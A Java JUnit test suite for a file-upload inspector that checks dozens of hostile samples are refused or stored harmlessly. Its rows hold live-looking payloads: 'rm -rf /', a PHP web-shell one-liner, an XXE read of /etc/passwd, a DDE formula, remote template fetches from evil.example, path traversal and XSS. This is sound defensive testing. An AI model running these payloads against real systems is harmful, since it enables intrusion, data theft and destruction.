package tillit.ground.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static tillit.ground.files.Samples.ascii;
import static tillit.ground.files.Samples.docx;
import static tillit.ground.files.Samples.docxWith;
import static tillit.ground.files.Samples.joined;
import static tillit.ground.files.Samples.jpeg;
import static tillit.ground.files.Samples.odt;
import static tillit.ground.files.Samples.pdf;
import static tillit.ground.files.Samples.png;
import static tillit.ground.files.Samples.xlsx;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.core.io.ClassPathResource;
import org.springframework.util.unit.DataSize;
import tillit.ground.law.Refusal;

/** Every way that we know to hand in something harmful or broken, one a row: it is refused with words, or kept as it came and made harmless. */
class HostileUploadsTest {

    private static final DataSize AT_MOST = DataSize.ofMegabytes(50);
    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    Path folder;

    Workbench bench;
    Uploads uploads;

    @BeforeEach
    void aTable(@TempDir Path empty) {
        folder = empty;
        FilesProperties limits = limits(folder);
        bench = new Workbench(limits);
        uploads = new Uploads(bench, new Inspection(new FileTypes(), limits), new Unchecked(), limits);
    }

    @AfterEach
    void cleared() throws IOException {
        bench.end();
    }

    static FilesProperties limits(Path folder) {
        return new FilesProperties(
                folder,
                AT_MOST,
                DataSize.ofMegabytes(200),
                DataSize.ofGigabytes(2),
                DataSize.ofMegabytes(300),
                new FilesProperties.Clamav(
                        "", 3310, Duration.ofSeconds(1), Duration.ofSeconds(1), Duration.ofSeconds(1)));
    }

    /** A row. @param refusal what it is refused with; null if it is kept */
    record Sent(
            String sentence,
            String name,
            String claimed,
            byte[] content,
            @Nullable Class<? extends Refusal> refusal,
            String type,
            String shown,
            Condition condition) {

        @Override
        public String toString() {
            return sentence;
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void isRefusedInWordsAndNothingIsLeft(Sent sent) throws IOException {
        Throwable refusal = catchThrowable(() -> uploads.take(sent.name(), sent.claimed(), stream(sent)));
        assertThat(refusal).isInstanceOf(sent.refusal());
        String key = ((Refusal) refusal).key();
        assertThat(((Refusal) refusal).field()).contains("file");
        assertThat(words("sv").getProperty(key)).isNotBlank();
        assertThat(words("en").getProperty(key)).isNotBlank();
        assertThat(onTheTable()).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("kept")
    void isKeptAsItCameAndServedAsWhatItIs(Sent sent) throws IOException {
        try (Upload upload = uploads.take(sent.name(), sent.claimed(), stream(sent));
                InputStream content = upload.content()) {
            assertThat(content.readAllBytes()).isEqualTo(sent.content());
            assertThat(upload.sha256())
                    .isEqualTo(HexFormat.of().formatHex(Spooled.digest().digest(sent.content())));
            assertThat(upload.type().mime()).isEqualTo(sent.type());
            assertThat(upload.name().shown()).isEqualTo(sent.shown());
            assertThat(upload.name().asGiven()).matches("[^\\p{Cntrl}\u202e\u2066\u200b]*");
            assertThat(upload.condition()).isEqualTo(sent.condition());
            assertThat(upload.checked()).isEqualTo(Checked.NOT_CHECKED);
        }
        assertThat(onTheTable()).isEmpty();
    }

    @Test
    void atLeastSixtyCasesAreTried() {
        assertThat(refused().count() + kept().count()).isGreaterThanOrEqualTo(60);
    }

    static Stream<Sent> refused() {
        List<Sent> rows = new ArrayList<>();
        refusedKinds(rows);
        refusedDisguises(rows);
        refusedDocuments(rows);
        refusedBombs(rows);
        return rows.stream();
    }

    private static void refusedKinds(List<Sent> rows) {
        no(rows, "nothing at all", "tom.pdf", new byte[0], EmptyFile.class);
        no(rows, "nothing at all, without a name", "", new byte[0], EmptyFile.class);
        no(rows, "a program for Windows", "spel.exe", ascii("MZ\u0090\u0000\u0003"), KindNotReceived.class);
        no(
                rows,
                "a program for Windows that is called a screen saver",
                "bild.scr",
                ascii("MZ\u0090"),
                KindNotReceived.class);
        no(rows, "a program behind two endings", "faktura.pdf.exe", ascii("MZ\u0090"), KindNotReceived.class);
        no(rows, "a program for Linux without a name", "", elf(), KindNotReceived.class);
        no(rows, "a shell script", "kor.sh", ascii("#!/bin/sh\nrm -rf /\n"), KindNotReceived.class);
        no(rows, "a batch file", "kor.bat", ascii("@echo off\r\ndel *.*\r\n"), KindNotReceived.class);
        no(rows, "a PowerShell script", "kor.ps1", ascii("Invoke-WebRequest x"), KindNotReceived.class);
        no(rows, "a script for the browser", "kod.js", ascii("alert(1)"), KindNotReceived.class);
        no(rows, "a Visual Basic script", "kod.vbs", ascii("MsgBox 1"), KindNotReceived.class);
        no(
                rows,
                "a shortcut",
                "las-mig.lnk",
                ascii("L\u0000\u0000\u0000\u0001\u0014\u0002\u0000"),
                KindNotReceived.class);
        no(rows, "a web page", "sida.html", ascii("<html><script>alert(1)</script></html>"), KindNotReceived.class);
        no(
                rows,
                "a web page for Windows that runs as a program",
                "sida.hta",
                ascii("<html></html>"),
                KindNotReceived.class);
        no(rows, "an SVG with a script in it", "logga.svg", svg(), KindNotReceived.class);
        no(rows, "XML that fetches the server's own files", "lista.xml", entities(), KindNotReceived.class);
        no(rows, "an archive", "allt.zip", Samples.packed(Map.of("a.txt", ascii("a"))), KindNotReceived.class);
        no(rows, "an archive without a name", "", Samples.packed(Map.of("a.txt", ascii("a"))), KindNotReceived.class);
        no(rows, "a packed tar", "allt.tar.gz", ascii("\u001f\u008b\u0008\u0000"), KindNotReceived.class);
        no(rows, "an archive of 7-Zip", "allt.7z", ascii("7z\u00bc\u00af\u0027\u001c"), KindNotReceived.class);
        no(
                rows,
                "a Java program",
                "program.jar",
                Samples.packed(Map.of("META-INF/MANIFEST.MF", ascii("x"))),
                KindNotReceived.class);
        no(rows, "an old Word document, whose macros cannot be seen", "brev.doc", ole(), KindNotReceived.class);
        no(rows, "an Outlook message, which may hold anything", "mejl.msg", ole(), KindNotReceived.class);
        no(
                rows,
                "a mail with what was attached to it",
                "mejl.eml",
                ascii("From: a@b.se\nSubject: x\n\nHej"),
                KindNotReceived.class);
        no(rows, "rich text with objects in it", "brev.rtf", ascii("{\\rtf1\\ansi {\\object}}"), KindNotReceived.class);
        no(rows, "a disk", "skiva.iso", new byte[4096], KindNotReceived.class);
        no(rows, "an ending that nobody knows", "fil.qqq", pdf(), KindNotReceived.class);
        no(rows, "an ending that a null byte hides", "bild.png\u0000.exe", ascii("MZ"), KindNotReceived.class);
        no(rows, "an ending that is written backwards", "bild\u202egnp.exe", ascii("MZ"), KindNotReceived.class);
    }

    private static void refusedDisguises(List<Sent> rows) {
        no(rows, "a program that is called a picture", "bild.jpg", ascii("MZ\u0090\u0000\u0003"), DisguisedFile.class);
        no(rows, "a program for Linux that is called a document", "brev.pdf", elf(), DisguisedFile.class);
        no(
                rows,
                "a web page that is called text",
                "text.txt",
                ascii("<!DOCTYPE html><html><body>x</body></html>"),
                DisguisedFile.class);
        no(
                rows,
                "a web page that is called a picture",
                "bild.png",
                ascii("<html><script>alert(1)</script>"),
                DisguisedFile.class);
        no(rows, "an SVG that is called a picture", "bild.png", svg(), DisguisedFile.class);
        no(rows, "an SVG that is called text", "bild.txt", svg(), DisguisedFile.class);
        no(rows, "XML with entities that is called text", "lista.txt", entities(), DisguisedFile.class);
        no(rows, "a shell script that is called text", "kor.txt", ascii("#!/bin/sh\nrm -rf /\n"), DisguisedFile.class);
        no(rows, "a document that is called a picture", "bild.png", pdf(), DisguisedFile.class);
        no(rows, "a picture that is called a document", "brev.pdf", png(), DisguisedFile.class);
        no(rows, "a sheet that is called a letter", "brev.docx", xlsx(), DisguisedFile.class);
        no(
                rows,
                "bytes of no kind that are called text",
                "text.txt",
                HexFormat.of().parseHex("00010203040506fffe"),
                DisguisedFile.class);
        no(rows, "an old Word document that is called a new one", "brev.docx", ole(), DisguisedFile.class);
        no(
                rows,
                "a web page with a PDF after it",
                "brev.pdf",
                joined(ascii("<html><script>alert(1)</script>"), pdf()),
                DisguisedFile.class);
        no(rows, "a film that is called a document", "brev.pdf", Samples.film("isom"), DisguisedFile.class);
        claimed(rows, "a document that its sender calls a web page", "brev.pdf", "text/html", pdf());
        claimed(rows, "a picture that its sender calls an SVG", "bild.png", "image/svg+xml; charset=utf-8", png());
        claimed(rows, "text that its sender calls a script", "text.txt", "application/javascript", ascii("alert(1)"));
        claimed(rows, "a picture that its sender calls a document", "bild.png", "application/pdf", png());
        no(
                rows,
                "a PDF that is an archive from its end",
                "brev.pdf",
                joined(pdf(), Samples.packed(Map.of("a.exe", ascii("MZ")))),
                TwoKindsInOne.class);
        no(
                rows,
                "a picture that is a Java program from its end",
                "bild.jpg",
                joined(jpeg(), Samples.packed(Map.of("A.class", ascii("x")))),
                TwoKindsInOne.class);
        no(
                rows,
                "a film that is a document from its end",
                "film.mp4",
                joined(Samples.film("isom"), docx()),
                TwoKindsInOne.class);
        no(
                rows,
                "text that is an archive from its end",
                "text.txt",
                joined(ascii("Hej på dig\n".repeat(9000)), Samples.packed(Map.of("a", ascii("a")))),
                TwoKindsInOne.class);
    }

    private static void refusedDocuments(List<Sent> rows) {
        no(
                rows,
                "a letter with macros, called without",
                "brev.docx",
                docx("word/vbaProject.bin", "x"),
                HoldsPrograms.class);
        no(rows, "a letter with macros", "brev.docm", docx("word/vbaProject.bin", "x"), KindNotReceived.class);
        no(
                rows,
                "a sheet with macros, called without",
                "lista.xlsx",
                xlsx("xl/vbaProject.bin", "x"),
                HoldsPrograms.class);
        no(
                rows,
                "a sheet with macros of the nineties",
                "lista.xlsx",
                xlsx("xl/macrosheets/sheet1.xml", "<x/>"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter that says that it has macros",
                "brev.docx",
                docxWith(
                        Samples.TYPES,
                        ascii("<Types ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
                HoldsPrograms.class);
        no(
                rows,
                "an OpenDocument letter with macros",
                "brev.odt",
                odt("Basic/Standard/Module1.xml", "<x/>"),
                HoldsPrograms.class);
        no(
                rows,
                "an OpenDocument letter with scripts",
                "brev.odt",
                odt("Scripts/python/x.py", "x"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with a program in it",
                "brev.docx",
                docx("word/embeddings/run.exe", "MZ"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with an object in it that may be a program",
                "brev.docx",
                docx("word/embeddings/oleObject1.bin", "x"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with controls that run",
                "brev.docx",
                docx("word/activeX/activeX1.xml", "<x/>"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with an archive in it",
                "brev.docx",
                docx("word/embeddings/42.zip", "PK"),
                HoldsPrograms.class);
        no(
                rows,
                "a letter that fetches its template from elsewhere",
                "brev.docx",
                docx("word/_rels/settings.xml.rels", fetching("attachedTemplate")),
                HoldsPrograms.class);
        no(
                rows,
                "a letter that fetches an object from elsewhere",
                "brev.docx",
                docx("word/_rels/document.xml.rels", fetching("oleObject")),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with entities of entities",
                "brev.docx",
                docxWith("word/document.xml", entities()),
                HoldsPrograms.class);
        no(
                rows,
                "a letter with entities in sixteen bits",
                "brev.docx",
                docxWith(
                        "word/styles.xml",
                        new String(entities(), StandardCharsets.ISO_8859_1).getBytes(StandardCharsets.UTF_16)),
                HoldsPrograms.class);
        no(
                rows,
                "a letter whose references are endless",
                "brev.docx",
                docxWith("word/_rels/document.xml.rels", random(1_500_000)),
                CannotBeLookedThrough.class);
        no(
                rows,
                "a letter whose parts climb out of it",
                "brev.docx",
                docx("../../etc/cron.d/x", "x"),
                CannotBeLookedThrough.class);
        no(
                rows,
                "a letter whose parts lie at the root",
                "brev.docx",
                docx("/etc/passwd.xml", "x"),
                CannotBeLookedThrough.class);
        no(rows, "a letter that is cut off", "brev.docx", Arrays.copyOf(docx(), 200), CannotBeLookedThrough.class);
        no(
                rows,
                "an OpenDocument letter with a password",
                "brev.odt",
                odt("META-INF/manifest.xml", "<manifest:encryption-data/>"),
                CannotBeLookedThrough.class);
        no(rows, "a Word document with a password", "brev.docx", ole(), DisguisedFile.class);
    }

    private static void refusedBombs(List<Sent> rows) {
        byte[] bomb = docxWith("word/document.xml", new byte[40 * 1024 * 1024]);
        no(rows, "a letter that becomes a thousand times as large", "brev.docx", bomb, ExpandsTooFar.class);
        no(
                rows,
                "the same, with a directory that lies",
                "brev.docx",
                Samples.lyingAboutItsSize(bomb),
                ExpandsTooFar.class,
                CannotBeLookedThrough.class);
        no(rows, "a letter of six thousand parts", "brev.docx", Samples.docxOfManyParts(6000), ExpandsTooFar.class);
        no(
                rows,
                "a PNG of four thousand million pixels",
                "bild.png",
                Samples.pngOf(65_000, 65_000),
                ExpandsTooFar.class);
        no(rows, "a PNG of more pixels than there are numbers", "bild.png", Samples.pngOf(-1, -1), ExpandsTooFar.class);
        no(
                rows,
                "a JPEG of four thousand million pixels",
                "bild.jpg",
                Samples.jpegOf(65_500, 65_500),
                ExpandsTooFar.class);
        no(
                rows,
                "a TIFF of four thousand million pixels",
                "bild.tif",
                Samples.tiffOf(65_000, 65_000),
                ExpandsTooFar.class);
        no(
                rows,
                "a WebP of two hundred million million pixels",
                "bild.webp",
                Samples.webpOf(16_000_000, 16_000_000),
                ExpandsTooFar.class);
        no(
                rows,
                "a HEIC of four thousand million pixels",
                "bild.heic",
                Samples.heicOf(65_000, 65_000),
                ExpandsTooFar.class);
    }

    static Stream<Sent> kept() {
        List<Sent> rows = new ArrayList<>();
        keptKinds(rows);
        keptBroken(rows);
        keptHarmless(rows);
        keptNames(rows);
        return rows.stream();
    }

    private static void keptKinds(List<Sent> rows) {
        yes(rows, "a PDF", "brev.pdf", pdf(), "application/pdf", "brev.pdf", Condition.SOUND);
        yes(rows, "a letter", "brev.docx", docx(), WORD, "brev.docx", Condition.SOUND);
        yes(
                rows,
                "a letter with a link to somewhere",
                "brev.docx",
                docx("word/_rels/document.xml.rels", fetching("hyperlink")),
                WORD,
                "brev.docx",
                Condition.SOUND);
        yes(
                rows,
                "a letter with a sheet in it",
                "brev.docx",
                docx("word/embeddings/Sheet1.xlsx", "PK"),
                WORD,
                "brev.docx",
                Condition.SOUND);
        yes(rows, "a sheet", "lista.xlsx", xlsx(), SHEET, "lista.xlsx", Condition.SOUND);
        yes(
                rows,
                "an OpenDocument letter",
                "brev.odt",
                odt(),
                "application/vnd.oasis.opendocument.text",
                "brev.odt",
                Condition.SOUND);
        yes(
                rows,
                "text",
                "text.txt",
                "Hej på dig, åäö.".getBytes(StandardCharsets.UTF_8),
                "text/plain",
                "text.txt",
                Condition.SOUND);
        yes(
                rows,
                "text of an old machine",
                "text.txt",
                ascii("Hej på dig, åäö. Det är en lång dag."),
                "text/plain",
                "text.txt",
                Condition.SOUND);
        yes(rows, "a JPEG", "bild.JPG", jpeg(), "image/jpeg", "bild.JPG", Condition.SOUND);
        yes(rows, "a PNG", "bild.png", png(), "image/png", "bild.png", Condition.SOUND);
        yes(rows, "a TIFF", "skannad.tiff", Samples.tiffOf(2480, 3508), "image/tiff", "skannad.tiff", Condition.SOUND);
        yes(rows, "a WebP", "bild.webp", Samples.webpOf(1200, 900), "image/webp", "bild.webp", Condition.SOUND);
        yes(
                rows,
                "a picture of an iPhone",
                "IMG_1.HEIC",
                Samples.heicOf(4032, 3024),
                "image/heic",
                "IMG_1.HEIC",
                Condition.SOUND);
        yes(rows, "a film", "film.mp4", Samples.film("isom"), "video/mp4", "film.mp4", Condition.SOUND);
        yes(
                rows,
                "a film of an iPhone",
                "film.mov",
                Samples.film("qt  "),
                "video/quicktime",
                "film.mov",
                Condition.SOUND);
        yes(rows, "a voice message", "rost.m4a", Samples.film("M4A "), "audio/mp4", "rost.m4a", Condition.SOUND);
        yes(rows, "a recording", "samtal.wav", Samples.wav(), "audio/vnd.wave", "samtal.wav", Condition.SOUND);
        yes(rows, "a recording in MP3", "samtal.mp3", Samples.mp3(), "audio/mpeg", "samtal.mp3", Condition.SOUND);
        yes(rows, "a PNG that a telephone calls JPEG", "bild.jpg", png(), "image/png", "bild.png", Condition.SOUND);
        yes(
                rows,
                "a HEIC that a telephone calls JPEG",
                "IMG_2.jpg",
                Samples.heicOf(4032, 3024),
                "image/heic",
                "IMG_2.heic",
                Condition.SOUND);
        yes(rows, "a PDF without a name", "", pdf(), "application/pdf", "namnlös.pdf", Condition.SOUND);
    }

    private static void keptBroken(List<Sent> rows) {
        byte[] whole = pdf();
        yes(
                rows,
                "a PDF that is cut off",
                "brev.pdf",
                Arrays.copyOf(whole, whole.length / 2),
                "application/pdf",
                "brev.pdf",
                Condition.BROKEN);
        yes(
                rows,
                "a PDF of its first line alone",
                "brev.pdf",
                ascii("%PDF-1.7\n"),
                "application/pdf",
                "brev.pdf",
                Condition.BROKEN);
        yes(
                rows,
                "a PDF of noise",
                "brev.pdf",
                joined(ascii("%PDF-1.4\n"), random(50_000)),
                "application/pdf",
                "brev.pdf",
                Condition.BROKEN);
        yes(
                rows,
                "a PDF with a password",
                "brev.pdf",
                pdf("/Encrypt 3 0 R"),
                "application/pdf",
                "brev.pdf",
                Condition.LOCKED);
        yes(
                rows,
                "a PDF that is nested a million times",
                "brev.pdf",
                joined(ascii("%PDF-1.7\n"), ascii("<<".repeat(1_000_000)), pdf()),
                "application/pdf",
                "brev.pdf",
                Condition.SOUND);
        byte[] picture = jpeg();
        yes(
                rows,
                "a JPEG that is cut off",
                "bild.jpg",
                Arrays.copyOf(picture, picture.length - 40),
                "image/jpeg",
                "bild.jpg",
                Condition.BROKEN);
        yes(
                rows,
                "a JPEG of its first bytes alone",
                "bild.jpg",
                Arrays.copyOf(picture, 4),
                "image/jpeg",
                "bild.jpg",
                Condition.BROKEN);
        yes(
                rows,
                "a PNG that is cut off",
                "bild.png",
                Arrays.copyOf(png(), 60),
                "image/png",
                "bild.png",
                Condition.BROKEN);
        yes(
                rows,
                "a TIFF that points past its end",
                "bild.tif",
                ascii("MM\u0000*\u007f\u0000\u0000\u0000xxxx"),
                "image/tiff",
                "bild.tif",
                Condition.BROKEN);
        yes(
                rows,
                "a WebP that is shorter than it says",
                "bild.webp",
                ascii("RIFF\u00ff\u00ff\u0000\u0000WEBPVP8 \u0000\u0000\u0000\u0000"),
                "image/webp",
                "bild.webp",
                Condition.BROKEN);
    }

    private static void keptHarmless(List<Sent> rows) {
        yes(
                rows,
                "a JPEG with PHP in its comment",
                "bild.jpg",
                Samples.jpegWith(0xfe, ascii("<?php system($_GET['c']); ?>")),
                "image/jpeg",
                "bild.jpg",
                Condition.SOUND);
        yes(
                rows,
                "a JPEG with a web page after it",
                "bild.jpg",
                joined(picture(), ascii("<html><script>alert(1)</script>")),
                "image/jpeg",
                "bild.jpg",
                Condition.SOUND);
        yes(
                rows,
                "a PDF that runs a script when it is opened",
                "brev.pdf",
                pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
                "application/pdf",
                "brev.pdf",
                Condition.SOUND);
        yes(
                rows,
                "a picture with the film that a telephone took around it",
                "bild.jpg",
                joined(picture(), Samples.film("mp42")),
                "image/jpeg",
                "bild.jpg",
                Condition.SOUND);
        yes(
                rows,
                "a picture with the place where it was taken",
                "bild.jpg",
                Samples.jpegWith(0xe1, Samples.exif(6)),
                "image/jpeg",
                "bild.jpg",
                Condition.SOUND);
        yes(
                rows,
                "text with a script in the middle",
                "text.txt",
                ascii("Hej!\n".repeat(500) + "<script>alert(1)</script>"),
                "text/plain",
                "text.txt",
                Condition.SOUND);
        yes(
                rows,
                "text that a sheet would take for a formula",
                "text.txt",
                ascii("=cmd|' /C calc'!A0"),
                "text/plain",
                "text.txt",
                Condition.SOUND);
    }

    private static void keptNames(List<Sent> rows) {
        named(rows, "a path of Linux", "../../etc/passwd.pdf", "passwd.pdf");
        named(rows, "a path of Windows", "C:\\Users\\Malin\\Skrivbord\\brev.pdf", "brev.pdf");
        named(rows, "a path that is all of the name", "../../..", "namnlös.pdf");
        named(rows, "an address", "https://example.se/brev.pdf", "brev.pdf");
        named(
                rows,
                "line breaks that would add a header",
                "brev\r\nSet-Cookie: x=y\r\n.pdf",
                "brevSet-Cookie_ x=y.pdf");
        named(rows, "a null byte", "brev\u0000.pdf", "brev.pdf");
        named(rows, "controls and a bell", "br\u0007e\u001bv.pdf", "brev.pdf");
        named(rows, "a mark that turns the writing", "brev\u202efdp.pdf", "brevfdp.pdf");
        named(rows, "marks that enclose a turned writing", "\u2066brev\u2069.pdf", "brev.pdf");
        named(rows, "letters that are not seen", "br\u200be\u200dv.pdf", "brev.pdf");
        named(rows, "a name that Windows reserves", "CON.pdf", "_CON.pdf");
        named(rows, "a port of Windows", "lpt1.pdf", "_lpt1.pdf");
        named(rows, "quotation marks and a semicolon", "brev\"; filename=\"x.pdf", "brev__ filename=_x.pdf");
        named(rows, "a script", "<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf");
        named(rows, "a stream of NTFS", "brev.pdf:hidden.pdf", "brev.pdf_hidden.pdf");
        named(rows, "bytes that are no letters", "br\uFFFD\uFFFDv.pdf", "br__v.pdf");
        named(rows, "half a letter", "brev\uD83D.pdf", "brev.pdf");
        named(rows, "three hundred letters", "å".repeat(300) + ".pdf", "å".repeat(116) + ".pdf");
        named(rows, "dots and blanks around it", "  ..brev.pdf. . ", "brev.pdf");
        named(rows, "letters put together of two", "a\u030akerlind.pdf", "åkerlind.pdf");
        named(rows, "a smile", "brev \uD83D\uDE00.pdf", "brev \uD83D\uDE00.pdf");
        named(rows, "a percent sign that means a slash", "..%2f..%2fbrev.pdf", "_2f.._2fbrev.pdf");
    }

    /** As much as three hundred megabytes may come, and no more than the limit and a buffer is read of them. */
    @Test
    void aFileThatIsTooLargeIsRefusedWhileItComes() throws IOException {
        Endless sent = new Endless(300L * 1024 * 1024);
        assertThat(catchThrowable(() -> uploads.take("film.mp4", "video/mp4", sent)))
                .isInstanceOf(FileTooLarge.class);
        assertThat(sent.read).isLessThanOrEqualTo(AT_MOST.toBytes() + 64 * 1024);
        assertThat(onTheTable()).isEmpty();
    }

    @Test
    void aFileOfExactlyTheLimitIsKeptAndOneByteMoreIsNot() {
        byte[] head = Samples.film("isom");
        assertThat(uploads.take("film.mp4", "", filled(head, AT_MOST.toBytes())).bytes())
                .isEqualTo(AT_MOST.toBytes());
        assertThat(catchThrowable(() -> uploads.take("film.mp4", "", filled(head, AT_MOST.toBytes() + 1))))
                .isInstanceOf(FileTooLarge.class);
    }

    @Test
    void whatComesToAnEndTooEarlyLeavesNothing() throws IOException {
        InputStream broken = new InputStream() {
            private int read;

            @Override
            public int read() throws IOException {
                if (read++ > 100_000) throw new IOException("the sender is gone");
                return 'x';
            }
        };
        assertThat(catchThrowable(() -> uploads.take("text.txt", "", broken)))
                .hasRootCauseMessage("the sender is gone");
        assertThat(onTheTable()).isEmpty();
    }

    @Test
    void whatAKilledProcessLeftIsRemovedByTheNextOne() throws IOException {
        Path left = Files.createDirectories(folder.resolve("process-killed"));
        Files.writeString(left.resolve("lock"), "");
        Files.writeString(left.resolve("x.part"), "Tuva");
        Path living = uploads.take("text.txt", "", new ByteArrayInputStream(ascii("Hej")))
                                .bytes()
                        == 3
                ? folder
                : left;
        assertThat(left).doesNotExist();
        assertThat(living).isDirectory();
        new Workbench(limits(folder)).sheet();
        assertThat(onTheTable()).as("what another one works on stays").isNotEmpty();
    }

    private Stream<Path> parts() throws IOException {
        return Files.walk(folder).filter(it -> it.toString().endsWith(".part"));
    }

    private List<Path> onTheTable() throws IOException {
        try (Stream<Path> parts = parts()) {
            return parts.toList();
        }
    }

    private static InputStream stream(Sent sent) {
        return new ByteArrayInputStream(sent.content());
    }

    private static InputStream filled(byte[] head, long length) {
        return new java.io.SequenceInputStream(new ByteArrayInputStream(head), new Endless(length - head.length));
    }

    private static Properties words(String language) throws IOException {
        Properties words = new Properties();
        words.load(new java.io.StringReader(new ClassPathResource("text/files_" + language + ".properties")
                .getContentAsString(StandardCharsets.UTF_8)));
        return words;
    }

    @SafeVarargs
    private static void no(
            List<Sent> rows, String sentence, String name, byte[] content, Class<? extends Refusal>... with) {
        rows.add(new Sent(sentence, name, "", content, with[0], "", "", Condition.SOUND));
    }

    private static void claimed(List<Sent> rows, String sentence, String name, String claimed, byte[] content) {
        rows.add(new Sent(sentence, name, claimed, content, DisguisedFile.class, "", "", Condition.SOUND));
    }

    private static void yes(
            List<Sent> rows,
            String sentence,
            String name,
            byte[] content,
            String type,
            String shown,
            Condition condition) {
        rows.add(new Sent(sentence, name, "application/octet-stream", content, null, type, shown, condition));
    }

    private static void named(List<Sent> rows, String sentence, String name, String shown) {
        yes(rows, "a name with " + sentence, name, pdf(), "application/pdf", shown, Condition.SOUND);
    }

    private static byte[] picture() {
        return jpeg();
    }

    private static byte[] elf() {
        return ascii(
                "\u007fELF\u0002\u0001\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0002\u0000\u003e\u0000");
    }

    private static byte[] ole() {
        return joined(HexFormat.of().parseHex("d0cf11e0a1b11ae1"), new byte[600]);
    }

    private static byte[] svg() {
        return ascii(
                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
    }

    private static byte[] entities() {
        return ascii("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">"
                + "<!ENTITY f SYSTEM \"file:///etc/passwd\">]><x>&b;&f;</x>");
    }

    private static String fetching(String kind) {
        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + kind + "\" Target=\"https://evil.example/x\" TargetMode=\"External\"/></Relationships>";
    }

    private static byte[] random(int length) {
        byte[] noise = new byte[length];
        new java.util.Random(7).nextBytes(noise);
        return noise;
    }

    /** Bytes that are made as they are asked for, and counted. */
    static final class Endless extends InputStream {

        private final long length;
        long read;

        Endless(long length) {
            this.length = length;
        }

        @Override
        public int read() {
            return read++ < length ? 0 : -1;
        }

        @Override
        public int read(byte[] into, int offset, int most) {
            long left = length - read;
            if (left <= 0) return -1;
            int some = (int) Math.min(left, most);
            Arrays.fill(into, offset, offset + some, (byte) 0);
            read += some;
            return some;
        }
    }
}
